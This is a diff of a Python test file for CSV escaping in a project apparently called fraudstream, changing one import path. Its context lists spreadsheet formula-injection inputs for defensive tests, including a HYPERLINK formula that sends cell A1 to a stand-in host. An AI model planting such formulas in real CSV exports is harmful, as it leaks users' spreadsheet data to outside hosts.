@@ -14,7 +14,7 @@ from fraudstream.cli import main
 from fraudstream.model_registry.artifact import ArtifactError, save_signed
 from fraudstream.simulator import Dataset, SimulationConfig, read_csv, simulate, write_csv
 from fraudstream.simulator.csv_cells import escape_cell, escape_row, unescape_cell
-from tests.unit.test_registry import KEY, make_version
+from tests.unit.model_registry.test_registry import KEY, make_version
 
 HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
            "'quoted", "plain", "", "a=b"]
